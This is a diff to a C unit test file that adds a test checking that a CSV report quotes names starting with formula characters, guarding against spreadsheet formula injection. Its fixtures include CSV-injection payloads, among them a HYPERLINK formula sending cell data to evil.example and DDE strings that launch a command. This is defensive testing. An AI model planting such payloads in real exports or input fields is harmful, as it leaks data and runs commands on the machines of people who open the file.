@@ -550,6 +550,77 @@ test_report_csv(void **state)
     ntm_report_free(r);
 }
 
+/*
+ * CSV injection (OWASP): a hamlet created by unit.create may carry any
+ * name, and its name lands in the CSV report. A cell that starts with =,
+ * +, -, @, tab or CR is a formula to a spreadsheet program, so every text
+ * cell that starts with one is written quoted, behind a single quote.
+ */
+static void
+test_report_csv_neutralizes_formulas(void **state)
+{
+    struct fx *f = *state;
+    static const char *names[] = {
+        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm vào\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "Ấp =không sao",
+    };
+    json_t *recs = NULL;
+    struct ntm_error err = {0};
+    assert_int_equal(ntm_store_records(f->st, NULL, &recs, &err), NTM_OK);
+    for (size_t k = 0; k < sizeof(names) / sizeof(names[0]); k++) {
+        json_t *created =
+            json_pack("[{s:s, s:s, s:s, s:s}]", "code", "72.710.25657.9",
+                      "name", names[k], "level", "hamlet", "entry",
+                      "0000000000000000000000000000000000000000000000000000"
+                      "000000000000");
+        struct ntm_report_opts o = {0};
+        struct ntm_report *r = NULL;
+        struct ntm_buf b = NTM_BUF_INIT;
+        char want[256], cell[256];
+        int rows = 0;
+        o.year = 2017;
+        o.unit = "72.710.25657.9";
+        if (ntm_report_run_records(f->plan, recs, created, &o, &r, &err) !=
+            NTM_OK)
+            fail_msg("report on the hamlet: %s", err.msg);
+        assert_int_equal(ntm_report_format(r, NTM_REPORT_CSV, "vi", &b, NULL),
+                         NTM_OK);
+        int dangerous = strchr("=+-@\t\r", names[k][0]) != NULL;
+        snprintf(want, sizeof(want), "%s%s", dangerous ? "'" : "", names[k]);
+        const char *p = strstr(b.buf, "\r\n") + 2; /* past the header */
+        while (*p) {
+            for (int i = 0; i < 14; i++) {
+                const char *start = p;
+                p = csv_field(p, cell, sizeof(cell));
+                if (i == 4) {
+                    assert_string_equal(cell, want);
+                    if (dangerous)
+                        assert_memory_equal(start, "\"'", 2);
+                    rows++;
+                }
+                /* No text cell a spreadsheet would evaluate. */
+                if (i != 6 && i != 7 && i != 11 && i != 13)
+                    assert_null(strchr("=+-@\t\r", cell[0]) && cell[0] ? cell
+                                                                       : NULL);
+                if (i < 13)
+                    assert_int_equal(*p++, ',');
+            }
+            assert_true(p[0] == '\r' && p[1] == '\n');
+            p += 2;
+        }
+        assert_true(rows > 0);
+        ntm_buf_release(&b);
+        ntm_report_free(r);
+        json_decref(created);
+    }
+    json_decref(recs);
+}
+
 /* a small deterministic generator for the fixture (rand is banned) */
 static unsigned
 next_rand(unsigned *seed)
@@ -694,6 +765,7 @@ main(void)
         cmocka_unit_test(test_report_merge),
         cmocka_unit_test(test_report_approved),
         cmocka_unit_test(test_report_csv),
+        cmocka_unit_test(test_report_csv_neutralizes_formulas),
         cmocka_unit_test(test_report_lower_rows),
         cmocka_unit_test(test_report_index_matches_scan),
         cmocka_unit_test(test_report_bad_options),
